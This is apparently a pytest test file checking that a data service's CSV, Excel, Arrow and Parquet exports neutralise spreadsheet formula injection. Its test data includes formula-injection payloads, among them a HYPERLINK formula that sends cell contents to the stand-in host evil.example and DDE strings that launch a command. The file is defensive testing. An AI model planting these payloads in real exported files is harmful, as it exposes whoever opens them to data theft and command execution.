"""Results in four formats, and the attacker who writes formulas into cells."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tarnkappe.errors import LimitError, TarnkappeError
from tarnkappe.service.downloads import Form, Formulas, style_of, table_as
from tarnkappe.service.spreadsheet import neutral
from tarnkappe.table import read

STARTS = "=+-@＝＋－＠\t\r\n"
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


def as_csv(table: pa.Table, path: Path, formulas: Formulas = Formulas.NEUTRALIZE) -> list[list[str]]:
    pq.write_table(table, path)
    text = b"".join(table_as(path, Form.CSV, formulas)).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_spreadsheet_program_runs_a_cell(formula: str, tmp_path: Path) -> None:
    [header, [cell, number]] = as_csv(pa.table({formula: [formula], "n": [-5]}), tmp_path / "t.parquet")
    assert cell == "'" + formula
    assert header[0] == "'" + formula
    assert number == "-5"


@pytest.mark.parametrize(
    "text", ["-5", "+3.2", "-1,5", "-1e-7", "+12%", "a=b", "", "*", "[-5, 0[", "'=1", "34-45"]
)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert neutral(pa.table({"a": [text]})).column("a").to_pylist() == [text]


def is_formula(text: str) -> bool:
    """The slow twin: as people say it who write spreadsheet programs."""
    stripped = text.lstrip()
    begins = stripped[:1] in tuple("=+-@＝＋－＠") or text[:1] in tuple("\t\r\n")
    try:
        float(text.replace(",", ".").removesuffix("%") if text.strip() == text else "x")
    except ValueError:
        return begins
    return False


@given(st.text(st.sampled_from(STARTS + "1.,eE% a'\"*"), max_size=8))
def test_every_formula_is_neutralized_and_nothing_is_lost(text: str) -> None:
    [safe] = neutral(pa.table({"a": [text]})).column("a").to_pylist()
    assert safe in (text, "'" + text)
    if is_formula(text):
        assert safe.startswith("'")


@pytest.fixture
def release(tmp_path: Path) -> Path:
    table = pa.table(
        {
            "age": pa.array(["30-39", "=1+1", None, ""]).dictionary_encode(),
            "n": pa.array([1, None, -3, 4], pa.int64()),
            "when": pa.array([0, 1, 2, None], pa.date32()),
        }
    )
    pq.write_table(table, tmp_path / "release.parquet", row_group_size=2)
    return tmp_path / "release.parquet"


def test_parquet_is_the_file_that_was_verified(release: Path) -> None:
    assert b"".join(table_as(release, Form.PARQUET, Formulas.NEUTRALIZE)) == release.read_bytes()


def test_arrow_has_the_same_values(release: Path) -> None:
    data = b"".join(table_as(release, Form.ARROW, Formulas.NEUTRALIZE))
    assert pa.ipc.open_stream(data).read_all().to_pylist() == pq.read_table(release).to_pylist()


def test_csv_can_be_exact(release: Path, tmp_path: Path) -> None:
    (tmp_path / "exact.csv").write_bytes(b"".join(table_as(release, Form.CSV, Formulas.KEEP)))
    back = read(tmp_path / "exact.csv").data
    assert back.column("age").to_pylist() == ["30-39", "=1+1", None, ""]
    assert back.column("n").to_pylist() == [1, None, -3, 4]


def test_a_workbook_has_the_same_values_and_its_texts_stay_texts(release: Path) -> None:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(b"".join(table_as(release, Form.EXCEL, Formulas.NEUTRALIZE))))
    rows = list(book.active.iter_rows())
    assert [cell.value for cell in rows[0]] == ["age", "n", "when"]
    assert [cell.value for cell in rows[2]][:2] == ["=1+1", None]
    assert rows[2][0].data_type == "s", "a text, not a formula"
    assert list(release.parent.iterdir()) == [release], "nothing is left"


def test_what_a_workbook_cannot_hold_is_refused_before_the_answer_begins(tmp_path: Path) -> None:
    path = tmp_path / "t.parquet"
    pq.write_table(pa.table({"a": [2**60]}), path)
    with pytest.raises(TarnkappeError, match="digits"):
        table_as(path, Form.EXCEL, Formulas.NEUTRALIZE)
    pq.write_table(pa.table({"a": pa.nulls(2_000_001)}), path)
    with pytest.raises(LimitError, match="take CSV"):
        table_as(path, Form.EXCEL, Formulas.NEUTRALIZE)


def test_a_table_without_rows_still_has_a_header(tmp_path: Path) -> None:
    path = tmp_path / "empty.parquet"
    assert as_csv(pa.table({"a": pa.array([], pa.string())}), path) == [["a"]]
    data = b"".join(table_as(path, Form.ARROW, Formulas.KEEP))
    assert pa.ipc.open_stream(data).read_all().num_rows == 0


def test_csv_for_excel_has_semicolons_and_one_mark(tmp_path: Path) -> None:
    path = tmp_path / "release.parquet"
    rows = 70_000  # more than one piece
    pq.write_table(
        pa.table({"city": ["Köln; Süd"] * rows, "value": [5.7] * rows, "risk": ["=1+1"] * rows}), path
    )
    form = Form.CSV_FOR_EXCEL
    content = b"".join(table_as(path, form, Formulas.NEUTRALIZE, style_of(tmp_path / "none", form)))
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.count(b"\xef\xbb\xbf") == 1
    told = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert told[0] == ["city", "value", "risk"]
    assert told[1:] == [["Köln; Süd", "5.7", "'=1+1"]] * rows
